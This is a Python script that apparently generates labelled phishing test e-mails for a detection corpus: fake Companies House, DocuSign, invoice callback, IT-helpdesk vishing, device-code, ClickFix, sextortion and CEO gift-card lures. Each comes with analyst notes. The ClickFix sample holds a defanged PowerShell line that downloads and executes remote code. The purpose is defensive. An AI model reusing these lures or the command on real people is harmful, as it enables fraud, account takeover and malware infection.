"""Attack messages 09-16 (English)."""
import hashlib

import files
import infra
import util
from company import S as STAFF
from compose import A, E, S, T, alt, html_gmail, html_outlook, html_simple, mixed, msg
from mime import addr, ew
from util import berlin


def build():
    # ------------------------------------------------------------ 09 Companies House ID verification (compromised WP)
    dt = berlin(2026, 11, 3, 10, 48, 21)
    r = util.rng("a09")
    p = infra.exim_cpanel(r, dt, E("uk_mgr"), "cp-uk12.hostingserver.co", "45.88.196.23",
                          "wordpress@beaconsfield-joinery.co.uk",
                          php_script=("beaconsf", "/home/beaconsf/public_html/wp-content/plugins/wp-mail-sender/send.php"))
    link = "https://verify-director.govuk-onelogin.co/ch/%s" % util.alnum(r, 16)
    text = """EXAMPLE GROUP UK LTD - company number 14528839

Dear James Whitfield,

Under the Economic Crime and Corporate Transparency Act 2023, every director and person with significant control must have a verified identity linked to the Companies House register.

Our records show that the identity of the following director has not yet been verified:

    WHITFIELD, James Edward (director, appointed 2 March 2023)

You must complete identity verification before your company's next confirmation statement is filed. If you do not verify, the statement will be rejected and the company may be struck off the register; directors may also face a civil penalty.

Verify your identity with GOV.UK One Login:
%s

You will need your company authentication code and a debit or credit card for the verification fee of GBP 12.00.

Companies House
Crown Way, Cardiff, CF14 3UZ

This is an automated message. Please do not reply.
""" % link
    html = html_simple(text, links={link: link}).replace(
        "<body style", '<body><div style="background:#0b0c0c;color:#fff;padding:12px 20px;font:bold 22px Arial">'
        "GOV.UK</div><div style")
    html = html.replace("</body>", "</div></body>")
    body = alt(p, T(text, "utf-8", "quoted-printable"), T(html, "utf-8", "quoted-printable", sub="html"))
    msg("09-en-companies-house-id-verification.eml", "attack", "en", p, E("uk_mgr"), dt,
        "wordpress@beaconsfield-joinery.co.uk",
        [("From", addr("Companies House", "no-reply@companieshouse-notices.uk")),
         ("To", S("uk_mgr")),
         ("Subject", "Action required: director identity verification - EXAMPLE GROUP UK LTD (14528839)")],
        body,
        "Credential/card phishing themed on the UK director identity-verification duty: link to a fake GOV.UK One "
        "Login page asking for the company authentication code and card details",
        "Sent by a PHP script on a compromised joinery website's cPanel account (envelope wordpress@...), From a "
        "look-alike companieshouse-notices.uk; threat of strike-off; the authentication code lets an attacker file "
        "changes for the company; Companies House does not charge by e-mail link.")

    # ------------------------------------------------------------ 10 genuine DocuSign abused by attacker account
    dt = berlin(2026, 11, 12, 16, 22, 4)
    r = util.rng("a10")
    p = infra.docusign(r, dt, E("uk_acc"), eu=False)
    env = util.det_uuid(r).replace("-", "").upper()
    link = "https://na3.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (
        util.det_uuid(r), util.det_uuid(r), util.det_uuid(r))
    text = """Harrow & Finch Accounts sent you a document to review and sign.

REVIEW DOCUMENT
%s

Harrow & Finch Accounts
accounts@harrowfinch-ltd.co.uk

Dear Sarah,

Please find our remittance advice for the payment of your invoices EGUK-2026-0412 and EGUK-2026-0419 (GBP 48,216.40). Our bank requires the supplier to countersign the advice before the transfer is released. Kindly review and sign today so that the funds reach you before the weekend.

Kind regards,
Accounts Payable - Harrow & Finch Wine Merchants

Powered by Docusign

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
""" % (link, env)
    html = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#eaeaea"><table width="100%%" style="background:#eaeaea"><tr><td style="padding:24px">
<table align="center" style="max-width:640px;background:#fff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:10px 24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="padding:0 24px"><table width="100%%" style="background:#1e4ca1;color:#fff;text-align:center"><tr><td style="padding:28px;font-size:16px">
Harrow &amp; Finch Accounts sent you a document to review and sign.<br><br>
<a href="%s" style="background:#ffc423;color:#333;font-weight:bold;padding:12px 24px;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#000"><b>Harrow &amp; Finch Accounts</b><br>
<a href="mailto:accounts@harrowfinch-ltd.co.uk" style="color:#2463d1">accounts@harrowfinch-ltd.co.uk</a><br><br>
Dear Sarah,<br><br>Please find our remittance advice for the payment of your invoices EGUK-2026-0412 and EGUK-2026-0419 (GBP 48,216.40). Our bank requires the supplier to countersign the advice before the transfer is released. Kindly review and sign today so that the funds reach you before the weekend.<br><br>Kind regards,<br>Accounts Payable - Harrow &amp; Finch Wine Merchants</td></tr>
<tr><td style="padding:0 24px 24px;font-size:11px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>%s</td></tr>
</table></td></tr></table></body></html>
""" % (link, env)
    body = alt(p, T(text, "utf-8", "quoted-printable"), T(html, "utf-8", "quoted-printable", sub="html"))
    msg("10-en-docusign-abused-remittance.eml", "attack", "en", p, E("uk_acc"), dt, "bounces@docusign.net",
        [("From", addr("Harrow & Finch Accounts via Docusign", "dse_NA3@docusign.net")),
         ("Reply-To", addr("Harrow & Finch Accounts", "accounts@harrowfinch-ltd.co.uk")),
         ("To", S("uk_acc")),
         ("Subject", "Complete with Docusign: H&F Remittance Advice EGUK-2026-0412_0419.pdf")],
        body,
        "Abuse of a genuine service: a real DocuSign envelope created by an attacker account named 'Harrow & Finch "
        "Accounts' (look-alike harrowfinch-ltd.co.uk); the document leads on to a credential-phishing page",
        "Headers and links are genuine DocuSign, so reputation checks pass; but the envelope sender's domain is a "
        "look-alike of the real customer harrowfinch.co.uk (compare business 09), remittance advices never need a "
        "supplier signature, and the note creates time pressure.", pair="B09")

    # ------------------------------------------------------------ 11 callback phishing (TOAD), Gmail + PDF
    dt = berlin(2026, 11, 23, 9, 14, 50)
    r = util.rng("a11")
    p = infra.gmail(r, dt, E("uk_acc"), host="mail-wm1-f54.google.com", ip="209.85.128.54", zone="UK")
    inv = "NSL-%d" % r.randrange(10 ** 7, 10 ** 8)
    text = """Dear Customer,

Thank you for your continued trust. Your annual subscription has been renewed automatically and the amount has been charged to the payment method on file. Please find your invoice attached for your records.

If you did not authorise this renewal or wish to cancel and receive a full refund, please contact our billing team within 24 hours on the number shown on the invoice.

Regards,
Billing Department
"""
    pdf = files.pdf([(18, "NortonLifeLock - Order Confirmation", "B"), "",
                     "Invoice number: " + inv, "Invoice date: 23/11/2026", "Customer ID: UK-77215904", "",
                     (12, "Norton 360 Total Protection - 5 devices - 3 years", "B"),
                     "Quantity: 1        Unit price: GBP 389.99        Total: GBP 389.99", "",
                     "Payment method: Auto-debit (card ending 4417)", "Status: PAID", "",
                     (12, "Did not authorise this purchase?", "B"),
                     "To cancel and request a refund, call our Billing Support team within 24 hours:",
                     (14, "+44 20 7946 0718   |   +1 (888) 555-0147", "B"),
                     "Lines open 24/7. Refunds can only be processed by phone.", "",
                     (8, "This is a computer-generated invoice and requires no signature.")],
                    title="Invoice " + inv, producer="Microsoft: Print To PDF", author="",
                    created="20261123075102+00'00'")
    body = mixed(p, alt(p, T(text, "UTF-8", "7bit"), T(html_gmail(text), "UTF-8", "quoted-printable", sub="html")),
                 A("application/pdf", pdf, "Invoice_%s.pdf" % inv))
    for part in body.parts[0].parts:
        part.quote_charset = True
    msg("11-en-callback-phishing-renewal-invoice.eml", "attack", "en", p, E("uk_acc"), dt,
        "billing.support.desk.uk7@gmail.com",
        [("From", addr("Billing Department", "billing.support.desk.uk7@gmail.com")),
         ("To", E("uk_acc")),
         ("Subject", "Your subscription has been renewed - Invoice %s" % inv)],
        body,
        "Callback phishing (TOAD): fake GBP 389.99 security-software renewal invoice in a PDF whose only call to "
        "action is a phone number 'to cancel'",
        "Free Gmail sender posing as a vendor's billing department, no link or payload to scan, PDF pushes the victim "
        "to call; the call centre then talks the victim into installing remote-access software and 'refunding'.",
        order="gmail")

    # ------------------------------------------------------------ 12 Teams / Quick Assist vishing pretext
    dt = berlin(2026, 11, 25, 11, 2, 33)
    r = util.rng("a12")
    tenant = util.det_uuid(r)
    p = infra.exo(r, dt, E("export"), "examplegroupit.onmicrosoft.com", "EUR02-AM0-obe.outbound.protection.outlook.com",
                  ("mail-am0eur02on2108.outbound.protection.outlook.com", "40.107.247.108"), tenant, lang="en-US")
    text = """Hi Felix,

Our monitoring shows that your mailbox has received more than 3,000 newsletter and subscription e-mails in the last hour. This is a known "mail bombing" attack and we are already blocking the senders.

To stop the flood completely we need to apply an additional filter rule on your laptop. A colleague from the Service Desk will contact you in the next 15 minutes via Microsoft Teams (display name "IT Service Desk - Example Group").

During the call you will be asked to open Quick Assist (press Windows + Ctrl + Q) and share the 6-digit security code so the engineer can connect. The fix takes about 10 minutes. Please do not restart your laptop in the meantime.

Ticket: INC0048213

Thanks for your patience,
IT Service Desk
Example Group
"""
    body = alt(p, T(text, "us-ascii", "quoted-printable"),
               T(html_outlook(text, "us-ascii", "EN-US"), "us-ascii", "quoted-printable", sub="html"))
    msg("12-en-teams-quickassist-vishing-pretext.eml", "attack", "en", p, E("export"), dt,
        "servicedesk@examplegroupit.onmicrosoft.com",
        [("From", addr("IT Service Desk - Example Group", "servicedesk@examplegroupit.onmicrosoft.com")),
         ("To", addr("Felix Zimmermann", E("export"))),
         ("Subject", "Spam attack on your mailbox - we are on it (INC0048213)")],
        body,
        "Remote-access vishing pretext: after an e-mail bomb, a fake service desk announces a Teams call and asks the "
        "user to start Quick Assist and share the code",
        "Sent from a throw-away Microsoft 365 tenant (examplegroupit.onmicrosoft.com), not from example.com; the "
        "e-mail-bomb + external Teams call + Quick Assist chain is the known ransomware initial-access playbook; the "
        "real IT department warns against exactly this (business 16).", pair="B16", order="outlook")

    # ------------------------------------------------------------ 13 device-code phishing from compromised partner
    dt = berlin(2026, 11, 17, 15, 37, 12)
    r = util.rng("a13")
    p = infra.exo(r, dt, E("uk_mgr"), "tgbonded.co.uk", "EUR05-VI1-obe.outbound.protection.outlook.com",
                  ("mail-vi1eur05on2131.outbound.protection.outlook.com", "40.107.21.131"),
                  "6f1c2a7e-3b0d-4c55-9e8a-0d4f7b21c9e3", lang="en-GB", region="eurprd05", pre="PAXP")
    text = """Hi James,

Ahead of the quarter-end duty return we have moved the bond stock reports to our secure client portal.

To open the Q4 reconciliation for your account (EGUK, 2,148 cases under bond), please go to

https://microsoft.com/devicelogin

and enter the code ERW4TJ9KD, then sign in with your Example Group Microsoft account when prompted. The code is only valid for 15 minutes - let me know if it expires and I'll send you a fresh one.

Many thanks,
Priya

Priya Shah
Client Account Manager
Thames Gateway Bonded Ltd
Unit 7, Tilbury Freeport Park, Essex RM18 7EH
"""
    body = alt(p, T(text, "us-ascii", "quoted-printable"),
               T(html_outlook(text, "us-ascii", "EN-GB", links={"https://microsoft.com/devicelogin":
                                                               "https://microsoft.com/devicelogin"}),
                 "us-ascii", "quoted-printable", sub="html"))
    msg("13-en-device-code-phishing-bonded-warehouse.eml", "attack", "en", p, E("uk_mgr"), dt, "priya.shah@tgbonded.co.uk",
        [("From", addr("Priya Shah", "priya.shah@tgbonded.co.uk")),
         ("To", addr("James Whitfield", E("uk_mgr"))),
         ("Subject", "Q4 bond stock reconciliation - secure portal access")],
        body,
        "Device-code phishing from the genuinely compromised mailbox of the bonded warehouse: asks to enter a code at "
        "microsoft.com/devicelogin to 'open the stock report'",
        "The only link is Microsoft's real device-login page, but the code was generated by the attacker: entering it "
        "grants the attacker's session tokens for James's account; a client portal never needs a device code, "
        "15-minute urgency; the real Priya sends CSV reports (business 14).", pair="B14", order="outlook")

    # ------------------------------------------------------------ 14 ClickFix (SendGrid, HTML attachment)
    dt = berlin(2026, 12, 10, 9, 20, 44)
    r = util.rng("a14")
    p = infra.sendgrid(r, dt, E("export"))
    text = """Dear Mr Zimmermann,

Your stand space application for ProWein 2027 in Düsseldorf has been processed.

Hall 13, stand B41 (36 sqm, row stand) is provisionally reserved for Example Group until 16 December 2026. Please review the hall plan and the deposit invoice in the attached exhibitor document viewer and confirm the allocation.

Unconfirmed stands are released to the waiting list after the deadline.

Kind regards,
Exhibitor Services
ProWein 2027
"""
    att = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>ProWein 2027 - Exhibitor document viewer</title>
<style>body{font-family:Arial,sans-serif;background:#f2f2f2;margin:0}.c{max-width:520px;margin:60px auto;background:#fff;
padding:32px;border:1px solid #ddd}.b{display:inline-block;border:1px solid #ccc;padding:14px 18px;margin:16px 0}
code{display:block;background:#f7f7f7;border:1px solid #ddd;padding:10px;font-size:12px;word-break:break-all}
ol li{margin:6px 0}</style></head>
<body><div class="c">
<h2>Verify you are human</h2>
<p>The exhibitor document <b>ProWein2027_Allocation_EG-13B41.pdf</b> is protected. Complete the verification to continue.</p>
<div class="b">&#9744; I'm not a robot</div>
<p><b>Verification steps</b></p>
<ol><li>Press <b>Windows key + R</b></li>
<li>Copy the verification line below and paste it with <b>Ctrl + V</b></li>
<li>Press <b>Enter</b></li></ol>
<code>powershell -w h -nop -c "iex(iwr 'hxxps://cdn-prowein-docs[.]com/v/13b41.txt' -UseB)" # I am not a robot - Verification ID: 41-7781</code>
<p style="font-size:11px;color:#888">Ray ID: 8f1c6a2b9d0e4417 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
"""
    body = mixed(p, alt(p, T(text, "utf-8", "quoted-printable"),
                        T(html_simple(text), "utf-8", "quoted-printable", sub="html")),
                 A("text/html", att.encode("utf-8"), "ProWein2027_Allocation_EG-13B41.html", charset="utf-8"))
    msg("14-en-clickfix-prowein-stand-allocation.eml", "attack", "en", p, E("export"), dt,
        "bounces+%d-%s-felix.zimmermann=examplegroup.eu@em4417.prowein-exhibitors.com" % (r.randrange(10 ** 7, 10 ** 8),
                                                                                      util.hexid(r, 4)),
        [("From", addr("ProWein Exhibitor Services", "exhibitor-services@prowein-exhibitors.com")),
         ("To", addr("Felix Zimmermann", E("export"))),
         ("Subject", "ProWein 2027 - stand allocation hall 13: confirmation required (EG-13B41)")],
        body,
        "ClickFix: trade-fair lure (ProWein stand allocation) with an HTML 'document viewer' that tells the user to "
        "paste a PowerShell download-and-execute line into Win+R (defanged in this sample)",
        "Look-alike trade-fair domain sent through SendGrid; fake CAPTCHA instructing the user to run a command is "
        "malicious by definition; deadline pressure around a real, important trade fair.", pair="B15")

    # ------------------------------------------------------------ 15 extortion with Bitcoin address
    dt = berlin(2026, 12, 5, 3, 17, 9)
    r = util.rng("a15")
    p = infra.postfix_host(r, dt, E("uk_mgr"), "mail.grupoalvorada.com.br", "mail.grupoalvorada.com.br", "177.85.98.14",
                           "User (unknown [190.14.37.202])", zone="UTC", domain="grupoalvorada.com.br", tls="1.2",
                           auth=False)
    btc = util.bech32_segwit_v0(hashlib.sha256(b"audit48-extortion-wallet").digest()[:20])
    text = """Hello James,

I'll get straight to the point. A few months ago your device was infected with my software while you were visiting a website. Since then I have had full access to your laptop: camera, microphone, browser history, contacts and your e-mail account - which is why this message comes from your own address.

I have recordings of you made through your camera, cut side by side with the websites you were watching. I also have the list of your business contacts and colleagues.

If you want me to delete everything, send 1450 USD in Bitcoin to this wallet:

%s

You have 48 hours from opening this e-mail. I can see when you read it. If I do not receive the payment, the video goes to every contact in your address book and to your employer.

Do not reply and do not try to change your passwords - my software will notice, and I will send the video immediately.
""" % btc
    body = T(text, "utf-8", "base64")
    msg("15-en-extortion-bitcoin-spoofed-self.eml", "attack", "en", p, E("uk_mgr"), dt, "nfe@grupoalvorada.com.br",
        [("From", addr("", E("uk_mgr"))),
         ("To", E("uk_mgr")),
         ("Subject", "Your account has been hacked - read carefully")],
        body,
        "Sextortion/extortion: claims device compromise and demands 1450 USD in Bitcoin (valid bech32 address); "
        "From is spoofed to the victim's own address",
        "Own address spoofed as sender while the envelope and relay are a compromised Brazilian server; threat, "
        "48-hour deadline and a Bitcoin wallet are the signature of mass extortion scams.")

    # ------------------------------------------------------------ 16 gift-card request impersonating the CEO
    dt = berlin(2026, 11, 27, 16, 5, 30)
    r = util.rng("a16")
    p = infra.gmail(r, dt, E("uk_mgr"), host="mail-lf1-f47.google.com", ip="209.85.167.47", zone="DE")
    text = """James,

Are you at your desk? I need a quick favour and I'd like you to handle it discreetly. I'm stuck in a board meeting until late and can only write.

I'd like to thank a few of our best UK trade customers before Christmas with a personal gift. Please buy 8 Amazon.co.uk gift cards of GBP 200 each (you can get them at Tesco or WHSmith near the office), scratch the backs, and send me clear photos of the codes by e-mail. I want to send them out with a personal note tonight.

Keep it between us for now - it's meant to be a surprise, also for the team. I'll have Sabine reimburse you on Monday.

Thanks,
Johannes

Sent from my iPhone
"""
    body = alt(p, T(text, "UTF-8", "quoted-printable"), T(html_gmail(text), "UTF-8", "quoted-printable", sub="html"))
    msg("16-en-gift-cards-ceo-impersonation.eml", "attack", "en", p, E("uk_mgr"), dt, "johannes.koerber.mz@gmail.com",
        [("From", addr("Johannes Körber", "johannes.koerber.mz@gmail.com", "UTF-8", "B")),
         ("To", E("uk_mgr")),
         ("Subject", "Quick favour")],
        body,
        "Gift-card scam: 'CEO' from a Gmail address asks the UK office manager to buy 8 x GBP 200 Amazon gift cards "
        "and send photos of the codes",
        "CEO's display name on a free Gmail account, secrecy, cannot talk, gift-card codes by photo = untraceable "
        "cash-out; classic CEO-fraud variant.", pair="B01", order="gmail")
